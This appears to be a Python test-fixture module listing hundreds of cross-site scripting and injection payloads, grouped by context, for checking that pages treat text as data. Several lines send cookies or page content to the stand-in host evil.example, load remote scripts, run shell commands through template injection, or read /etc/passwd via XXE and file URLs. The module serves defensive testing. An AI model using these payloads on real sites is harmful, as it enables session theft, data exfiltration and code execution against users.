"""Texts that become scripts, requests, styles or another page wherever a page forgets that text is data.

One to a line, grouped by where it would work. A watch sees calls of ``xss`` and ``alert``, and requests to hosts under
``evil.example``.
"""

from __future__ import annotations

from typing import Final

ELEMENTS: Final = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt >xss(1)</sCrIpT >
<script>alert(1)</script
<script/x>alert(1)</script>
<script	>xss(1)</script>
<script src=//evil.example/x.js></script>
<script src="https://evil.example/x.js" async></script>
<script type=module>import "https://evil.example/m.js"</script>
<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert`1`</script>
<script>setTimeout('al'+'ert(1)')</script>
<script>[].constructor.constructor("xss(1)")()</script>
<script>fetch("https://evil.example/"+document.cookie)</script>
<script>navigator.sendBeacon("https://evil.example/",document.body.innerHTML)</script>
<script>new WebSocket("wss://evil.example/")</script>
<script>location="https://evil.example/"</script>
<script>document.write("<img src=//evil.example/w>")</script>
<script>\u0061lert(1)</script>
<script>eval(atob("YWxlcnQoMSk="))</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe src=//evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=xss(1)&gt;"></iframe>
<iframe srcdoc='<script>parent.xss(1)</script>' sandbox="allow-scripts allow-same-origin"></iframe>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="//evil.example/o.swf"></object>
<embed src="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<applet code="x" codebase="//evil.example/"></applet>
<base href="//evil.example/">
<base href="javascript:/a/-alert(1)///////">
<link rel=stylesheet href=//evil.example/s.css>
<link rel=preload as=script href=//evil.example/p.js>
<link rel="dns-prefetch" href="//dns.evil.example">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=manifest href=//evil.example/m.json>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=referrer content=unsafe-url>
<title><img src=x onerror=alert(1)></title>
<xml onreadystatechange=alert(1)>
<portal src=//evil.example/></portal>
<marquee onstart=alert(1)>x</marquee>
<blink onclick=alert(1)>x</blink>
"""

ATTRIBUTES: Final = r"""
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror="xss('a')" alt=">
<IMG SRC=x OnErRoR=alert(1)>
<img src=`x` onerror=alert(1)>
<img '''><script>alert(1)</script>'>
<img src=//evil.example/i.png>
<img srcset="//evil.example/1x 1x, //evil.example/2x 2x">
<img src=x:x onerror=eval(name)>
<picture><source srcset=//evil.example/s><img></picture>
<video src=//evil.example/v onerror=alert(1)>
<video poster=//evil.example/p></video>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<audio autoplay onplay=alert(1) src=data:audio/wav;base64,UklGRiQAAABXQVZF>
<track src=//evil.example/t.vtt onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background=//evil.example/b>
<table background=//evil.example/t>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1) popovertarget=x>b</button>
<details open ontoggle=alert(1)>x</details>
<div onbeforetoggle=alert(1) popover id=x>y</div>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>
<a href=x onmouseover=alert(1) style=position:fixed;inset:0>x</a>
<div onpointerover=xss(1) style="position:fixed;inset:0">x</div>
<div tabindex=0 autofocus onfocus=alert(1)>x</div>
<p contenteditable onfocusin=alert(1) autofocus>x</p>
<div style="animation-name:x" onanimationstart=alert(1)>x</div>
<div style="transition:color 1s" ontransitionend=alert(1)>x</div>
<div onscrollsnapchange=alert(1) style=overflow:scroll>x</div>
<div hidden=until-found onbeforematch=alert(1)>cited</div>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"/><svg/onload=alert(1)>
` onerror=alert(1) `
x onerror=alert(1)
"></option></select><img src=x onerror=alert(1)>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript></template></iframe><script>alert(1)</script>
"""

ADDRESSES: Final = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
javascript://%0aalert(1)
javascript://example.org/%0Dalert(1)//
javascript:void(xss(1))
<a href="javascript:alert(1)" autofocus>x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=vbscript:msgbox(1)>x</a>
<a ping=//evil.example/ href=#>x</a>
<form action=javascript:alert(1)><input type=submit autofocus></form>
<form action=//evil.example/ id=decide><input name=decision value=accept></form>
<button form=decide formaction=//evil.example/>Accept</button>
<isindex action=javascript:alert(1) type=image>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
blob:https://evil.example/0
file:///etc/passwd
filesystem:https://evil.example/temporary/x.html
view-source:javascript:alert(1)
https://evil.example/" onclick="alert(1)
https://user:password@evil.example/
//evil.example/%2e%2e/%2e%2e
\\evil.example\share
/\evil.example/
http://[::1]:80@evil.example/#:~:text=x
"""

IMAGES_AND_STYLES: Final = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><script href=//evil.example/s.js /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">
<svg><use href=//evil.example/u.svg#x></svg>
<svg><image href=//evil.example/i.png onerror=alert(1)>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math href="javascript:alert(1)">x</math>
<style>@import "//evil.example/s.css";</style>
<style>body{background:url(//evil.example/b)}</style>
<style>*{display:none!important}</style>
<style>input[value^=a]{background:url(//evil.example/?a)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>
<p style="background:url(//evil.example/p)">x</p>
<p style="background:url('javascript:alert(1)')">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<div style="position:fixed;inset:0;z-index:9999">over it all</div>
<xss style="behavior:url(//evil.example/x.htc)">
</style><style>@import'//evil.example'
"""

TEMPLATES_AND_MARKDOWN: Final = r"""
{{7*7}}
{{constructor.constructor('alert(1)')()}}
{{config.__class__.__init__.__globals__['os'].popen('id').read()}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{% include "/etc/passwd" %}
{# a comment #}<img src=x onerror=alert(1)>
{{ "<script>alert(1)</script>"|safe }}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
[[${alert(1)}]]
<div hx-get="//evil.example/" hx-trigger=load>x</div>
<div hx-on:htmx:load="alert(1)">x</div>
<div data-hx-on--load="alert(1)" hx-trigger="load[alert(1)]">x</div>
<div id=said hx-swap-oob="true">Saved: claim 1 accepted.</div>
<hx-partial hx-target="#pane">x</hx-partial>
<div x-data x-init="alert(1)" v-html="1" ng-app ng-init="alert(1)">x</div>
[x](javascript:alert(1))
![x](//evil.example/i.png)
![x](x "onerror=alert(1)")
[x]: javascript:alert(1)
<javascript:alert(1)>
<https://evil.example/"onclick="alert(1)>
[x](https://evil.example "<script>alert(1)</script>")
```<img src=x onerror=alert(1)>```
    <script>alert(1)</script>
"""

MUTATIONS_AND_SCRIPTS: Final = r"""
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<template><script>alert(1)</script></template>
<template shadowrootmode=open><slot onslotchange=alert(1)></template>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext>
</p></div></article></main></body></html><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
';alert(1)//
";alert(1)//
\";alert(1)//
</script><script>alert(1)</script>
'-alert(1)-'
"}]});alert(1);//
jaVasCript:/*-/*`/*'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/oNloAd=alert()//>
=HYPERLINK("//evil.example/"&A1)
"""

_UNICODE: Final = (
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x\u00a0onerror=alert(1)>",
    "<script>alert(1)\u2028</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "\u061c\u200f</bdi><script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "ʺ onmouseover=alert(1) x=ʺ",
    "<ſcript>alert(1)</ſcript>",
    "<\u0130mg src=x onerror=alert(1)>",
    "\U000e003c\U000e0073\U000e003e<b onclick=alert(1)>tag characters</b>",
    "<a\u200b href=javascript:alert(1)>zero width</a>",
    "\x1b]8;;https://evil.example/\x07<s>terminal link</s>\x1b]8;;\x07",
    "\x9b31m<script>alert(1)</script>\x85",
    "e\u0301" + "\u0300" * 200 + "<img src=x onerror=alert(1)>",
    "👩‍🚀<script>alert('👩‍🚀')</script>",
    "ﷺ" * 20 + "<script>alert(1)</script>",
)

_LISTED: Final = (
    ELEMENTS,
    ATTRIBUTES,
    ADDRESSES,
    IMAGES_AND_STYLES,
    TEMPLATES_AND_MARKDOWN,
    MUTATIONS_AND_SCRIPTS,
)
PAYLOADS: Final = (*(line for group in _LISTED for line in group.split("\n") if line.strip()), *_UNICODE)
